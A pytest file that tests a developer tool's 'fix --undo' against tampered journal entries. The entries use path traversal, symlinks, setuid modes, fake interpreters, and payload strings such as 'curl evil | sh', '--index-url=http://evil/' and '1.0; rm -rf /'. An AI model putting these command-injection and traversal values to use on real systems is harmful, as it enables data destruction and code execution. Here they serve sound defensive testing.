"""Attacks on `fix --undo` through the journal (issue #12): a journal is data, never instructions.

A repository can ship `.olmo-doctor/` of its own, and a journal can be edited. Each test builds such a journal,
runs `olmo-doctor fix --undo` and asserts the refusal (exit 2, one line) and that nothing outside changed: the
outside file keeps its bytes, no marker appears, no interpreter named by the journal ran. Entries are signed with
this user's key where the attack is one a key holder could make, so the structural checks are what stops them.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from olmo_doctor.cli import app
from olmo_doctor.errors import UsageError
from olmo_doctor.fix.journal import Entry

EID = "0001-20260101-000000"
OLD, NEW = b"export A=old\n", b"export A=new\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def undo(project: Path, *extra: str) -> tuple[int, str]:
    res = CliRunner().invoke(app, ["fix", "--undo", *extra, "--project", str(project)])
    if isinstance(res.exception, UsageError):
        return 2, str(res.exception)
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        raise res.exception
    return res.exit_code, res.stdout


def base_entry() -> dict[str, Any]:
    return {"id": EID, "created": "2026-01-01T00:00:00", "status": "applied", "steps": [], "wheels": [],
            "python": None, "plan": [], "argv": [], "freeze_before": None, "dists_before": None,
            "files": [{"path": ".olmo-doctor/env.sh", "existed": True, "backup": "files/0",
                       "sha256_before": sha(OLD), "sha256_after": sha(NEW), "mode": 0o644}]}


def write_entry(project: Path, data: dict[str, Any], signed: bool = True) -> Path:
    """A journal entry as fix --apply would leave it (signed with this user's key), or as a cloned repo ships it."""
    folder = project / ".olmo-doctor" / "journal" / EID
    (folder / "files").mkdir(parents=True, exist_ok=True)
    (folder / "files" / "0").write_bytes(OLD)
    (project / ".olmo-doctor" / "env.sh").write_bytes(NEW)
    data.setdefault("project", str(project.resolve()))  # fix --apply binds every entry to its project
    if signed:
        Entry(folder, data).save()
    else:  # the plain checksum anyone can compute
        body = json.dumps(data, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
        (folder / "manifest.json").write_text(json.dumps({"format": 1, "sha256": sha(body), "entry": data}))
    return folder


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(project, an outside file the attack targets, the marker an executed program would write)."""
    project = tmp_path / "project"
    project.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"precious\n")
    return project, outside, tmp_path / "marker"


def assert_untouched(outside: Path, marker: Path) -> None:
    assert outside.read_bytes() == b"precious\n"
    assert not marker.exists()


def test_a_genuine_entry_undoes(world: tuple[Path, Path, Path]) -> None:
    """The control: the same harness with nothing hostile restores env.sh, so the refusals below are real."""
    project, outside, marker = world
    write_entry(project, base_entry())
    code, out = undo(project)
    assert code == 0, out
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == OLD
    assert_untouched(outside, marker)


def test_a_journal_shipped_by_a_repository_is_refused(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    data = base_entry()
    data["files"][0] |= {"path": f"../{outside.name}", "existed": False}
    write_entry(project, data, signed=False)  # valid checksum, no key: what a cloned repo can ship
    code, line = undo(project)
    assert code == 2 and "not written by olmo-doctor for this user" in line
    assert_untouched(outside, marker)
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW


def _path_attacks(outside: Path, project: Path) -> list[dict[str, Any]]:
    rel_out = os.path.relpath(outside, project)
    return [
        {"path": str(outside), "existed": False},  # delete an absolute path
        {"path": str(outside)},  # overwrite an absolute path
        {"path": rel_out},  # ../outside.txt
        {"path": f".olmo-doctor/../{rel_out}"},
        {"path": f"./{rel_out}"},
        {"path": "link/outside.txt"},  # through a symlinked folder inside the project
        {"path": "linkfile"},  # a symlink to the outside file
        {"path": f".olmo-doctor/journal/{EID}/manifest.json"},  # rewrite the journal itself
        {"path": ""}, {"path": "."}, {"path": "a\nb"}, {"path": 7}, {"path": ["x"]},
        {"backup": f"../../../../{rel_out}"},  # read a backup from anywhere
        {"backup": str(outside)},
        {"backup": "files/../../../outside.txt"},
        {"backup": "wheels/x.whl/../../files/0"},
        {"mode": 0o4755},  # a setuid bit back from a journal
        {"mode": "0644"},
    ]


def test_paths_outside_the_project_are_refused(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    (project / "link").symlink_to(outside.parent, target_is_directory=True)
    (project / "linkfile").symlink_to(outside)
    for attack in _path_attacks(outside, project):
        data = base_entry()
        data["files"][0] |= attack
        folder = write_entry(project, data)
        code, line = undo(project)
        assert code == 2, (attack, line)
        assert "\n" not in line
        assert_untouched(outside, marker)
        assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW, attack
        (folder / "manifest.json").unlink()


def test_a_backup_symlinked_out_of_the_journal_is_refused(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    folder = write_entry(project, base_entry())
    (folder / "files" / "0").unlink()
    (folder / "files" / "0").symlink_to(outside)
    data = base_entry()
    data["files"][0]["sha256_before"] = sha(outside.read_bytes())  # even with the outside file's own hash
    Entry(folder, data).save()
    code, line = undo(project)
    assert code == 2 and "symlink" in line
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW
    assert_untouched(outside, marker)


def test_a_backup_changed_after_it_was_written_is_refused(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    folder = write_entry(project, base_entry())
    (folder / "files" / "0").write_bytes(b"curl evil | sh\n")
    code, line = undo(project)
    assert code == 2 and "changed since it was written" in line
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW
    assert_untouched(outside, marker)


def test_the_python_a_journal_names_never_runs(world: tuple[Path, Path, Path],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from olmo_doctor.fix import pyenv

    project, outside, marker = world
    fake = project / "fakepy"  # stands in for the running Python: a failed defence writes the marker
    fake.write_text(f"#!/bin/sh\necho ran >> {marker}\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(pyenv, "target_python", lambda: str(fake))
    evil = project / "evil-python"
    evil.write_text(f"#!/bin/sh\necho pwned > {marker}\nexit 0\n")
    evil.chmod(0o755)
    for python in (str(evil), "evil-python", "python3 -c 'open(\"m\",\"w\")'"):
        data = base_entry() | {"python": python, "dists_before": {"tinypkg": ["1.0", None]},
                               "dists_after": {"tinypkg": ["2.0", None]}, "freeze_before": ["tinypkg==1.0"]}
        write_entry(project, data)
        code, line = undo(project)
        assert code == 2 and "not the one running olmo-doctor" in line, line
        assert_untouched(outside, marker)

def test_package_names_from_a_journal_are_checked(world: tuple[Path, Path, Path],
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The journal names the running Python; its package lists must still be names. The 'running Python' is a
    stand-in script here, so a failed defence writes the marker instead of changing the test's own venv."""
    from olmo_doctor.fix import pyenv

    project, outside, marker = world
    fake = project / "fakepy"
    fake.write_text(f"#!/bin/sh\necho ran >> {marker}\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(pyenv, "target_python", lambda: str(fake))
    for before in ({"--index-url=http://evil/": ["1.0", None]}, {"tinypkg": ["1.0; rm -rf /", None]},
                   {"tinypkg": "1.0"}, {"a b": ["1.0", None]}, ["tinypkg"]):
        data = base_entry() | {"python": str(fake), "dists_before": before, "dists_after": {}}
        write_entry(project, data)
        code, line = undo(project)
        assert code == 2 and "malformed" in line, (before, line)
        assert_untouched(outside, marker)


def test_wheels_only_from_the_entrys_own_folder(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    for name in ("../../../evil.whl", str(outside), "wheels/../files/0", "wheels/sub/x.whl", "wheels/-x.whl"):
        data = base_entry() | {"wheels": [{"name": "tinypkg", "version": "1.0", "file": name, "sha256": "0" * 64,
                                           "extras": {}}]}
        write_entry(project, data)
        code, line = undo(project)
        assert code == 2, (name, line)
        assert_untouched(outside, marker)
    data = base_entry() | {"wheels": [{"name": "tinypkg", "version": "1.0", "file": "wheels/t.whl",
                                       "sha256": "0" * 64, "extras": {"../../outside.txt": "eA=="}}]}
    write_entry(project, data)
    assert undo(project)[0] == 2


def test_a_symlinked_state_dir_is_refused(world: tuple[Path, Path, Path], tmp_path: Path) -> None:
    project, outside, marker = world
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    write_entry(elsewhere, base_entry())  # a genuine journal, but reached through a link
    (project / ".olmo-doctor").symlink_to(elsewhere / ".olmo-doctor", target_is_directory=True)
    for args in (["fix", "--undo"], ["fix", "--history"], ["fix"], ["fix", "--apply"]):
        res = CliRunner().invoke(app, [*args, "--project", str(project)])
        assert isinstance(res.exception, UsageError) and "symlink" in str(res.exception), args
    assert (elsewhere / ".olmo-doctor" / "env.sh").read_bytes() == NEW
    (project / ".olmo-doctor").unlink()
    (project / ".olmo-doctor").mkdir()
    (project / ".olmo-doctor" / "journal").symlink_to(elsewhere / ".olmo-doctor" / "journal")
    code, line = undo(project)
    assert code == 2 and "symlink" in line
    assert (elsewhere / ".olmo-doctor" / "env.sh").read_bytes() == NEW
    assert_untouched(outside, marker)


def test_a_state_dir_of_another_user_is_refused(world: tuple[Path, Path, Path],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    project, outside, marker = world
    write_entry(project, base_entry())
    real = os.getuid()
    monkeypatch.setattr(os, "getuid", lambda: real + 4242)  # as if the folder belonged to someone else
    code, line = undo(project)
    assert code == 2 and "another user" in line
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW
    assert_untouched(outside, marker)


def test_a_planted_lock_symlink_is_not_followed(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    write_entry(project, base_entry())
    (project / ".olmo-doctor" / "journal" / ".lock").symlink_to(outside)
    code, line = undo(project)
    assert code == 2 and ".lock" in line
    assert_untouched(outside, marker)


def test_refusal_is_one_line_through_the_entry_point(world: tuple[Path, Path, Path]) -> None:
    project, outside, marker = world
    data = base_entry()
    data["files"][0]["path"] = str(outside)
    write_entry(project, data)
    proc = subprocess.run([sys.executable, "-m", "olmo_doctor", "fix", "--undo", "--project", str(project)],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and proc.stdout == "", proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
    assert_untouched(outside, marker)


def test_a_symlinked_env_file_is_neither_read_nor_written(world: tuple[Path, Path, Path],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from olmo_doctor.api import CheckResult
    from olmo_doctor.envplan import EnvVar

    project, outside, marker = world
    (project / ".olmo-doctor").mkdir()
    (project / ".olmo-doctor" / "env.sh").symlink_to(outside)
    result = CheckResult({}, [], {"MAX_JOBS": EnvVar("4", "test")})
    monkeypatch.setattr("olmo_doctor.api.run_check", lambda **kw: result)
    for args in (["fix"], ["fix", "--apply"]):
        res = CliRunner().invoke(app, [*args, "--project", str(project)])
        assert isinstance(res.exception, UsageError) and "symlink" in str(res.exception), (args, res.output)
        assert "precious" not in res.output  # its content is not shown in a diff either
    assert_untouched(outside, marker)
    assert (project / ".olmo-doctor" / "env.sh").is_symlink()


@pytest.mark.parametrize("member", ["manifest.json", "files/0"])
@pytest.mark.parametrize("kind", ["fifo", "dir"])
def test_a_journal_member_that_is_not_a_regular_file_is_refused(world: tuple[Path, Path, Path], member: str,
                                                                 kind: str) -> None:
    """A fifo in place of a manifest or backup hung `fix --undo` forever; a folder there is no backup either."""
    project, outside, marker = world
    folder = write_entry(project, base_entry())
    target = folder / member
    target.unlink()
    os.mkfifo(target) if kind == "fifo" else target.mkdir()
    code, line = undo(project)  # the CliRunner call returns, rather than blocking on the fifo
    assert code == 2 and "not a regular file" in line, line
    assert_untouched(outside, marker)
    assert (project / ".olmo-doctor" / "env.sh").read_bytes() == NEW


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["fifo", "dir"])
def test_an_env_file_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    env = tmp_path / ".olmo-doctor" / "env.sh"
    env.parent.mkdir()
    os.mkfifo(env) if kind == "fifo" else env.mkdir()
    res = CliRunner().invoke(app, ["fix", "--apply", "--only", "env", "--project", str(tmp_path)])
    assert isinstance(res.exception, UsageError) and "not a regular file" in str(res.exception), res.output
    assert not (tmp_path / ".olmo-doctor" / "journal").exists()
